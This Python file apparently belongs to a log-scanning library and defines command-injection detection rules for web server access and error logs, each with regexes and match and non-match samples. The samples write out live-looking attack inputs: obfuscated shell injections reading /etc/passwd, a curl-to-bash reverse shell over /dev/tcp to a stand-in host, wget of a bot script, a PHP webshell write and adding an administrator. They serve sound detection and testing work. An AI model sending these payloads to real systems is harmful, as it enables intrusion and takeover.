"""OS command injection: shell syntax and download-and-run chains in request fields."""

from __future__ import annotations

import re

from lwsyslog.events import Event
from lwsyslog.matching.fold import fold
from lwsyslog.matching.linear import Regex, linear_search
from lwsyslog.normalize import EventView
from lwsyslog.rules.base import ACCESS, BOTH, PAYLOAD_FIELDS, PatternRule, RuleMatch
from lwsyslog.rules.samples import AccessSample, ErrorSample
from lwsyslog.severity import Severity

__all__ = [
    "COMMAND_WORDS",
    "STRONG_COMMANDS",
    "CommandArgv",
    "CommandDownloadExec",
    "CommandQuotedName",
    "CommandServerSideInclude",
    "CommandShellChain",
]

COMMAND_WORDS = (
    r"(?:id|uname|whoami|cat|ls|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|ping|nslookup|dig"
    r"|sleep|echo|chmod|rm|python[23]?|perl|php|ruby|busybox|tftp|telnet|ifconfig|ipconfig"
    r"|hostname|net\s+(?:user|localgroup|view|use)|powershell|systeminfo|env|printenv|uptime|ps"
    r"|sudo|nohup|tasklist|netstat|ver|tracert|traceroute|wmic|certutil|bitsadmin|mshta"
    r"|rundll32|cscript|crontab|ssh|scp|killall|cmd(?:\.exe)?)"
)
# After a lone "&" (also how a browser joins parameters) only words that are no English.
STRONG_COMMANDS = (
    r"(?:id|uname|whoami|ping|nslookup|wget|curl|netstat|ipconfig|ifconfig|systeminfo"
    r"|powershell|tasklist|cmd(?:\.exe)?|dir\s+[a-z]:|net\s+(?:user|view|localgroup|share)"
    r"|netsh|sleep\s+\d{1,3}\b|type\s+(?:%[a-z_]+%|[a-z]:)|(?:/(?:usr/)?s?bin/)\w)"
)
# What may follow a command word: the end of the value, white space, a separator, a quote,
# a shell comment ("#" ends the command line: ``;id%23``).
_END = r"\s;|&`)<>'\"$#"
# "dir" counts only when a separator, a switch or a drive comes next ("dir /s", "dir c:"),
# not before a word ("dir straits").
_DIR_NEXT = r"(?:$|[;|&`]|/[a-z]|[a-z]:)"


def _command(prefix: str, end: str, groups: tuple[str, str]) -> str:
    """``prefix`` and a command word, reported as one of ``groups`` (the second for ``dir``);
    the character after the word (one of ``end``, when the text does not end there) is
    matched but not reported: what a look-ahead checked, which RE2 does not have."""
    space = r"[\s+]" if "+" in end else r"\s"
    return (
        rf"(?P<{groups[0]}>{prefix}{COMMAND_WORDS})(?:$|[{end}])"
        rf"|(?P<{groups[1]}>{prefix}dir)(?:$|[;|&`]|{space}[\s+]*{_DIR_NEXT})"
    )


# Command names as a shell reads them through quotes that split them (``c'a't``,
# ``who'am'i``, ``c"a"t``: the quotes vanish). Names of three letters or more: an apostrophe
# in a shorter word is English ("i'd").
_QUOTE_SPLIT = "|".join(
    "['\"]{0,2}".join(re.escape(letter) for letter in name)
    for name in (
        "cat", "whoami", "uname", "wget", "curl", "bash", "ping", "sleep", "echo", "nslookup",
        "ifconfig", "ipconfig", "netstat", "python", "perl", "chmod", "busybox", "hostname",
    )
)  # fmt: skip
# Two-letter names split by a pair of quotes, as a shell accepts them (``i'd'``, ``'l's``,
# ``p"s"``): one apostrophe alone is unbalanced, no command, and English ("i'd").
_SHORT_SPLIT = "|".join(
    f"{q}{a}{q}{b}|{a}{q}{b}{q}"
    for a, b in ("id", "ls", "ps", "nc", "sh", "rm")
    for q in ("'", '"')
)

# A command substitution, ``$(...)`` or backticks, run by a shell that reads the field: all
# the rule looks for in a User-Agent, a Cookie or another header, where ";" and "|" are
# ordinary text (``Mozilla/5.0 (X11; Linux x86_64)``).
_SUBSTITUTION = linear_search(
    Regex(
        _command(r"(?:`|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + _END, ("frag", "frag1"))
        + r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
    )
)
_HEADER_FIELDS = frozenset({"user_agent", "cookie", "headers"})
# A backslash before a letter, as logged (case-folded): what the shell's reading drops.
_ESCAPED_LETTERS = tuple("\\" + letter for letter in "abcdefghijklmnopqrstuvwxyz")


def _shell_differs(raw: str) -> bool:
    """Whether the shell's reading of a field (case-folded ``raw``) can differ from the
    decoded one: a backslash before a letter, or an encoded backslash (one C-level test per
    letter: a field of 8,000 backslashes is not decoded a second time)."""
    if "%5c" in raw or "255c" in raw:
        return True
    return any(escaped in raw for escaped in _ESCAPED_LETTERS)


class CommandShellChain(PatternRule):
    """A shell separator or substitution followed by a command (``;id``, ``|cat``, ``$(...)``).

    Also a whole parameter value that is a command closed by a separator (``id;``, ``whoami|``):
    the payload for a value pasted at the start of a command line. Only the words that are no
    English count there, and only when nothing follows the separator (``fields=id|name`` is
    a list).

    In the User-Agent, the Cookie and other logged headers only a command substitution counts
    (``$(sleep 10)``, a backtick ``nslookup``): ";" separates a User-Agent's comments and a
    Cookie's pairs.

    A field holding a backslash is also read as a shell reads it, the backslash before a
    letter dropped (``;w\\hoami`` runs ``whoami``, ``;i\\d`` runs ``id``): decoding reads a
    backslash as ``/`` (``;w/hoami``), for the path rules.
    """

    id = "command-injection-chain"
    categories = ("command-injection",)
    severity = Severity.CRITICAL
    description = "shell separator or substitution followed by a command (;id, |cat, $(...))"
    logs = BOTH
    fields = ("target", "referer", "message", "user_agent", "cookie", "headers")
    # A backslash, as logged or percent-encoded (%5c, %255c, %25255c): the rarer spellings
    # (an HTML reference, %u005c) would have every field of such entities decoded twice.
    raw_literals = dict.fromkeys(fields, frozenset({"\\", "%5c", "255c"}))
    # Also the shell's own obfuscations: ${IFS} for a space, quotes splitting a command name
    # (c''at, c'a't), and ?-globs standing for one (/???/c?t).
    pattern = Regex(
        _command(r"(?:[;|`\n]|&&|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + _END, ("frag", "frag1"))
        + rf"|(?P<frag2>&\s+{STRONG_COMMANDS})(?:$|[{_END}])"
        r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
        rf"|(?P<frag3>=\s*(?:/(?:usr/)?s?bin/)?{STRONG_COMMANDS}\s*[;|]+\s*)(?:$|&)"
        r"|\$\{?ifs\b|(?:[;|`\n]|&&|\$\()\s*[a-z]{1,10}(?:''|\"\")[a-z]"
        rf"|(?P<frag5>(?:[;|`\n]|&&|\$\()[\s+]*(?:{_QUOTE_SPLIT}|{_SHORT_SPLIT}))(?:$|[+{_END}])"
        r"|/\?{3}/[\w?]{0,10}\?"
        r"|(?P<frag4>;\s*\$[a-z_]\w*)\s*(?:$|[;|&`])"
        rf"|\{{(?:{STRONG_COMMANDS}|cat|wget|curl|nc|ncat|bash|sh|ls|chmod|perl|python),"
        r"(?:/|[a-z]{2,8}://|-|\+x)"
    )
    gate = ";|`\n$&"
    must_match = (
        AccessSample(target="/ping.php?host=127.0.0.1;id"),
        AccessSample(target="/ping.php?host=127.0.0.1;cat$%7BIFS%7D/etc/passwd"),
        AccessSample(target="/ping.php?host=x;c''at%20/etc/hosts"),
        AccessSample(target="/ping.php?host=x|/???/c?t%20/etc/passwd"),
        AccessSample(target="/ping.php?host=127.0.0.1%7Ccat%20/etc/passwd"),
        AccessSample(target="/diag?ip=8.8.8.8%0Auname%20-a"),
        AccessSample(target="/diag?ip=%24(whoami)"),
        AccessSample(target="/diag?ip=%60id%60"),
        AccessSample(target="/diag?ip=1.2.3.4%3Bnetstat%20-an%3B"),
        AccessSample(target="/diag?ip=1.2.3.4%20%26%20whoami"),
        AccessSample(target="/diag?ip=1.2.3.4%7C%2Bdir%2Bc:/"),
        AccessSample(target="/diag?flag=%60false%60"),
        AccessSample(target="/diag?ip=id%3B"),
        AccessSample(target="/diag?ip=whoami%7C&submit=go"),
        AccessSample(target="/diag?ip=x%26%20sleep%2010"),
        AccessSample(target="/diag?ip=x%26%20net%20view"),
        AccessSample(target="/diag?ip=%3BCMD%3D%24%27id%27%3B%24CMD"),
        AccessSample(target="/diag?ip=x%7Cusr/bin/id"),
        AccessSample(target="/diag?ip=x;%7Bcat,/etc/passwd%7D"),
        AccessSample(target="/diag?ip=%7Bwget,http://198.51.100.9/x%7D"),
        AccessSample(target="/ping.php?ip=127.0.0.1;c'a't%20/e't'c/pa's'swd"),
        AccessSample(target="/ping.php?ip=127.0.0.1;who'am'i"),
        AccessSample(target="/ping.php?ip=127.0.0.1%7Cc%22a%22t%20/etc/hosts"),
        AccessSample(target="/ping.php?ip=127.0.0.1;id%23"),
        AccessSample(target="/ping.php?ip=127.0.0.1|whoami%23"),
        AccessSample(target="/", user_agent="$(sleep 10)"),
        AccessSample(target="/", user_agent="Mozilla/5.0 `nslookup abc.oast.example`"),
        AccessSample(target="/", cookie="lang=$(sleep 10)"),
        AccessSample(target="/", headers=(("X-Forwarded-For", "`id`"),)),
        AccessSample(target="/ping.php?ip=127.0.0.1;i'd'"),
        AccessSample(target="/ping.php?ip=127.0.0.1;l's'%20-la"),
        AccessSample(target="/ping.php?ip=127.0.0.1%7C%27p%27s"),
        AccessSample(target="/ping.php?ip=127.0.0.1;w\\hoami"),
        AccessSample(target="/ping.php?ip=127.0.0.1;i\\d"),
        AccessSample(target="/ping.php?ip=127.0.0.1%7Cc%5Ca%5Ct%20/etc/passwd"),
        AccessSample(target="/", user_agent="$(w\\hoami)"),
    )
    must_not_match = (
        AccessSample(target="/shop;jsessionid=0AB12CD34?cat=shoes"),
        AccessSample(target="/search?q=tom+%26+jerry&id=5"),
        AccessSample(target="/api/items?fields=name|title&sort=-id"),
        AccessSample(target="/search?q=dog+%26+cat&id&ls"),
        AccessSample(target="/search?q=rock+%26+roll;+dir+straits"),
        AccessSample(target="/api/items?fields=id|name|price"),
        AccessSample(target="/api/items?sort=id;desc"),
        AccessSample(target="/search?q=rock+%26+sleep+tight"),
        AccessSample(target="/search?q=a+%7C+b+%7C+c"),
        AccessSample(target="/search?q=price+%7C+%24100"),
        AccessSample(target="/shop;jsessionid=1?x=%24total"),
        AccessSample(target="/api?fields={cat,dog}"),
        AccessSample(target="/api?fields={id,name,ls,price}"),
        AccessSample(target="/search?q=tom;o'neil's+cat"),
        AccessSample(target="/search?q=a;i'd+like+a+cat"),
        AccessSample(target="/search?q=apostrophes;+i%27d+and+l%27s"),
        AccessSample(target="/search?q=tom;i'd've+said"),
        AccessSample(target="/search?q=c%23;+f%23;+language+list%23top"),
        AccessSample(target="/", user_agent="Mozilla/5.0 (X11; Linux x86_64; id) Gecko/20100101"),
        AccessSample(target="/", cookie="theme=dark; id=5; sh=1; ls=2"),
        AccessSample(target="/", user_agent="Mozilla/5.0 (compatible; curl-like; +http://x/)"),
        AccessSample(target="/files?list=C:%5Cdata;D:%5Cid%5Cnew"),
        AccessSample(target="/search?q=tom;%5Cn+cat+pictures"),
        AccessSample(target="/", user_agent="Mozilla/5.0 (Windows; U; x\\id)"),
    )

    def match_field(self, field: str, text: str) -> str | None:
        """The match in ``text``; in a header field only a command substitution."""
        if field in _HEADER_FIELDS:
            return _SUBSTITUTION.search(text)
        return self.linear.search(text)

    def evaluate(self, event: Event, view: EventView) -> RuleMatch | None:
        """The match in the decoded fields, else in the fields holding a backslash as a
        shell reads them (:meth:`~lwsyslog.normalize.EventView.shell`)."""
        match = super().evaluate(event, view)
        if match is not None:
            return match
        for name in self.fields:
            if self.raw_holds(view, name) and _shell_differs(fold(view.raw(name))):
                fragment = self.match_field(name, view.shell(name))
                if fragment is not None:
                    return RuleMatch(name, fragment)
        return None


class CommandDownloadExec(PatternRule):
    """Download-and-run or shell-spawning command lines (``wget http://``, ``cmd.exe /c``)."""

    id = "command-injection-exec"
    categories = ("command-injection",)
    severity = Severity.CRITICAL
    description = "download-and-execute or shell invocation (wget http://, /bin/sh, cmd.exe /c)"
    logs = BOTH
    fields = PAYLOAD_FIELDS
    pattern = Regex(
        r"\b(?:wget|curl|fetch|lwp-download|tftp)\s+(?:-{1,2}[\w-]+\s+(?:[^\s:]+\s+)?){0,4}"
        r"(?:https?|ftp|tftp)://"
        r"|\bchmod\s+(?:[0-7]{3,4}|[ugoa]*\+x)\s"
        r"|(?:^|[^\w-])(?P<frag>/bin/(?:ba|da|z|k|c)?sh)\b|/dev/(?:tcp|udp)/"
        r"|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+){0,4}\S+\s+\d{2,5}\b"
        r"|\bcmd(?:\.exe)?\s*\??\s*/[ck]\b"
        r"|\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand|nop|w|c|command)\b"
        r"|\bbase64\s+-d\b|\b(?:python[23]?|perl|ruby|sh|bash)\s+-[ce]\s"
        r"|\b(?:echo|printf?)\s+['\"][^\n]*['\"]\s*>>?\s*[\w./-]+"
        r"\.(?:php\d?|phtml|aspx?|jspx?|cgi|pl|sh)\b"
    )
    words = frozenset(
        {
            "wget", "curl", "fetch", "tftp", "lwp", "chmod", "bin", "dev", "nc", "ncat", "netcat",
            "cmd", "powershell", "base64", "python", "python2", "python3", "perl", "ruby", "sh",
            "bash",
        }
    )  # fmt: skip
    gate = " \n;|`"
    must_match = (
        AccessSample(target="/cgi-bin/x?c=cd%20/tmp;wget%20http://198.51.100.9/bot.sh"),
        AccessSample(target="/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir"),
        AccessSample(
            target="/",
            user_agent="curl -s http://198.51.100.9/x | bash -c "
            "'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'",
        ),
        ErrorSample(message="AH01215: sh: 1: wget -q -O- http://198.51.100.9/m.sh: not found"),
        AccessSample(
            target="/p?x=%26%20echo%20%22%3C%3Fphp%20phpinfo();%20%3F%3E%22%20%3E%20x.php"
        ),
    )
    must_not_match = (
        AccessSample(target="/cgi-bin/status.cgi?show=uptime"),
        AccessSample(target="/downloads/curl-8.5.0.tar.gz", user_agent="curl/8.5.0"),
        AccessSample(target="/docs/commands?name=chmod"),
        AccessSample(target="/search?q=%22a%22+%3E+b.php"),
    )


class CommandArgv(PatternRule):
    """A command line without a separator: a command word with the arguments it is run with.

    ``ping -n 30 127.0.0.1``, ``dir c:/``, ``netstat -an``, ``ls -la``, ``type c:\\boot.ini``,
    ``nslookup x.example``, ``timeout /t 10``, a value that is just ``sleep 5`` (a time-based
    blind probe), an absolute path into a binary directory (``/usr/bin/id``), or a shell-running
    function given a command string (``system('id')``): what a parameter holds when it is passed
    whole to a shell.
    """

    id = "command-injection-argv"
    categories = ("command-injection",)
    severity = Severity.HIGH
    description = "command line in a parameter (ping -n 30, dir c:, /usr/bin/id, system('id'))"
    logs = BOTH
    fields = ("query", "cookie")
    pattern = Regex(
        r"\bping(?:\.exe)?[\s+]+(?:-[a-z][\s+]*\d+[\s+]+)*(?:-[a-z][\s+]*\d|\d{1,3}\.\d{1,3}\.)"
        r"|\bdir[\s+]+(?:/[a-z][\s+]+)*[a-z]:(?:[/\s+]|$)|\bnetstat[\s+]+-[a-z]{1,4}\b"
        r"|\bls[\s+]+-[a-z]{0,3}l[a-z]{0,3}\b"
        # A file reader, with up to three options ("tail -n 1"), given a system file.
        r"|\b(?:cat|tac|nl|head|tail|more|less|type|sort|strings|od|xxd)[\s+]+"
        r"(?:-{1,2}[a-z][\w=]{0,15}[\s+]+(?:\d{1,6}[\s+]+)?){0,3}"
        r"(?:/(?:etc|proc|root|home|var|tmp|dev)/|[a-z]:/|%[a-z_]+%/)"
        r"|\bfind[\s+]+/\S*[\s+]+-(?:i?name|perm|type|user|writable|exec|newer|size)\b"
        r"|\brm[\s+]+-[rf]{1,2}[\s+]+/|\bkill[\s+]+-(?:9|kill|hup)[\s+]+-?\d"
        r"|\bshutdown(?:\.exe)?[\s+]+[-/][rshpf]\b|\bxterm[\s+]+-display\b"
        r"|(?P<frag>(?:^|=)\s*sleep[\s+]+\d{1,3}(?:\.\d+)?\s*)(?:\n?$|[&;|])"
        r"|\bnet(?:\.exe)?[\s+]+(?:localgroup|user[\s+]+\S+[\s+]+\S+[\s+]*/add)\b"
        r"|\bnetsh(?:\.exe)?[\s+]+(?:firewall|advfirewall|interface|wlan|winhttp)\b"
        r"|\bnslookup[\s+]+(?:-\S+[\s+]+)*[\w-]+(?:\.[\w-]+)+"
        r"|\btimeout(?:\.exe)?[\s+]+/t[\s+]*\d|"
        + _command(
            r"(?:^|[=\s;|&`'\"(])/?(?:usr/(?:local/)?)?s?bin/", "+" + _END, ("frag1", "frag2")
        )
        + "|"
        + _command(
            r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval)\s*\(\s*['\"`]\s*"
            r"(?:/(?:usr/)?s?bin/)?",
            _END,
            ("frag3", "frag4"),
        )
    )
    words = frozenset(
        {
            "ping", "exe", "dir", "netstat", "ls", "bin", "sbin", "system", "exec", "shell_exec",
            "passthru", "popen", "proc_open", "cat", "tac", "nl", "head", "tail", "more", "less",
            "type", "sleep", "nslookup", "timeout", "sort", "strings", "od", "xxd", "find", "rm",
            "kill", "shutdown", "xterm",
        }
    )  # fmt: skip
    gate = " +/("
    must_match = (
        AccessSample(target="/diag?host=ping%20-c%2020%20127.0.0.1"),
        AccessSample(target="/diag?host=ping.exe%20-n%2031%20127.0.0.1"),
        AccessSample(target="/diag?path=dir%20c:/"),
        AccessSample(target="/diag?x=/usr/bin/whoami"),
        AccessSample(target="/diag?x=/bin/ls%20-la%20/tmp"),
        AccessSample(target="/diag?x=%3Bsystem(%27uname%20-a%27)"),
        AccessSample(target="/diag?x=head%20/etc/hostname"),
        AccessSample(target="/diag?x=type%20c:%5Cwindows%5Cwin.ini"),
        AccessSample(target="/diag?host=sleep%2010&go=1"),
        AccessSample(target="/diag?host=nslookup%20abc123.oast.example"),
        AccessSample(target="/diag?host=x%7Ctimeout%20/T%2015"),
        AccessSample(target="/diag?x=net%20localgroup%20Administrators%20hacker%20%2FADD"),
        AccessSample(target="/diag?x=netsh%20firewall%20set%20opmode%20disable"),
        AccessSample(target="/diag?x=eval(%27whoami%27)"),
        AccessSample(target="/diag?x=x%7Ctail%20-n%201%20/etc/passwd"),
        AccessSample(target="/diag?x=x;find%20/%20-perm%20-4000"),
        AccessSample(target="/diag?x=x;rm%20-rf%20/tmp/x"),
        AccessSample(target="/diag?x=a%7Ckill%20-9%201"),
        AccessSample(target="/diag?x=a%7Cshutdown%20-r"),
        AccessSample(target="/diag?x=a;xterm%20-display%20198.51.100.9:0"),
    )
    must_not_match = (
        AccessSample(target="/search?q=ping+pong+table"),
        AccessSample(target="/search?q=dir+en+grey+tour"),
        AccessSample(target="/cgi-bin/status.cgi?show=uptime"),
        AccessSample(target="/docs?page=system(admin)+guide"),
        AccessSample(target="/files?path=/home/user/bin/readme.txt"),
        AccessSample(target="/search?q=more+/r/cats"),
        AccessSample(target="/search?q=sleep+5+hours+a+night"),
        AccessSample(target="/search?q=nslookup+command+examples"),
        AccessSample(target="/search?q=type+a+letter"),
        AccessSample(target="/search?q=net+user+guide"),
        AccessSample(target="/search?q=eval(x)+in+javascript"),
        AccessSample(target="/search?q=sort+by+date"),
        AccessSample(target="/search?q=find+a+dentist"),
        AccessSample(target="/search?q=shutdown+windows+10+from+keyboard"),
        AccessSample(target="/search?q=kill+-9+vs+kill+-15"),
        AccessSample(target="/search?q=tail+-f+log+file"),
    )


class CommandServerSideInclude(PatternRule):
    """A server-side include directive (``<!--#exec cmd="id"-->``) sent in a request."""

    id = "command-injection-ssi"
    categories = ("command-injection",)
    severity = Severity.CRITICAL
    description = "server-side include directive (<!--#exec cmd=, <!--#include virtual=)"
    logs = BOTH
    fields = PAYLOAD_FIELDS
    pattern = Regex(
        r"<!--\s*#\s*(?:exec\s+(?:cmd|cgi)|include\s+(?:virtual|file)|printenv|echo\s+var"
        r"|config\s+\w+|set\s+var|fsize|flastmod)\b"
    )
    trigger = r"<!--\s*#"
    gate = "<"
    must_match = (
        AccessSample(target="/guestbook?msg=%3C!--%23exec%20cmd=%22ls%20-la%22--%3E"),
        AccessSample(target="/p?x=%3C!--%23include%20virtual=%22/etc/passwd%22--%3E"),
        AccessSample(target="/", user_agent="<!--#printenv -->"),
    )
    must_not_match = (
        AccessSample(target="/p?html=%3C!--+comment+--%3E"),
        AccessSample(target="/p?tag=%23exec+summary"),
    )


class CommandQuotedName(PatternRule):
    """A whole parameter value that is a quoted harmless command: ``'uname'``, ``'id'``, ``'true'``.

    Also a quote and a command name that is no word (``' whoami``) and ``which`` asked about
    a tool (``which curl``): probes for what the shell can run.

    Blind command-injection probes (commix, fuzzdb): the quotes show the sender expects a shell
    to evaluate the value, and the command only prints who or where the process is or sets an
    exit status, so the answer (or its timing) tells the prober the injection works. Bare
    ``id`` or ``true`` are everyday values (``?sort=id``) and stay unflagged. Double quotes are
    also how people search for an exact phrase and how JSON writes a string, so inside them
    only command names that are no ordinary word or value count (``"whoami"``, not ``"true"``).
    """

    id = "command-injection-quoted-command"
    categories = ("command-injection",)
    severity = Severity.MEDIUM
    description = "a parameter value that is only a quoted command name ('uname', 'id', 'true')"
    logs = ACCESS
    fields = ("query",)
    pattern = Regex(
        r"(?P<frag>(?:^|[=&])(?:'(?:id|uname|whoami|hostname|pwd|ifconfig|ipconfig|systeminfo"
        r"|true|false)'"
        r"|\"(?:uname|whoami|ifconfig|ipconfig|systeminfo)\""
        r"|['\"`]\s*(?:whoami|uname|ifconfig|ipconfig|systeminfo)"
        r"|which\s+(?:curl|wget|gcc|cc|perl|python[23]?|nc|ncat|netcat|socat|nmap|bash|php"
        r"|ruby)))(?:\n?$|&)"
    )
    words = frozenset(
        {
            "id", "uname", "whoami", "hostname", "pwd", "ifconfig", "ipconfig", "systeminfo",
            "true", "false",
        }
    )  # fmt: skip
    gate = "'\""
    must_match = (
        AccessSample(target="/diag?host=%27uname%27"),
        AccessSample(target="/diag?host=%27id%27&go=1"),
        AccessSample(target="/diag?flag=%27false%27"),
        AccessSample(target="/diag?x=1&flag='true'"),
        AccessSample(target="/diag?user=%22whoami%22"),
        AccessSample(target="/diag?user=%27%20whoami"),
        AccessSample(target="/diag?user=which%20curl"),
    )
    must_not_match = (
        AccessSample(target="/api/items?sort=id"),
        AccessSample(target="/api/items?active=true&deleted=false"),
        AccessSample(target="/search?q=%22true%22"),
        AccessSample(target="/search?q=%22id%22"),
        AccessSample(target="/search?q=%27uname%27+manual+page"),
        AccessSample(target="/search?q=o%27id%27s"),
        AccessSample(target="/search?q=which+curling+club"),
        AccessSample(target="/search?q=which+perl+necklace+to+buy"),
    )
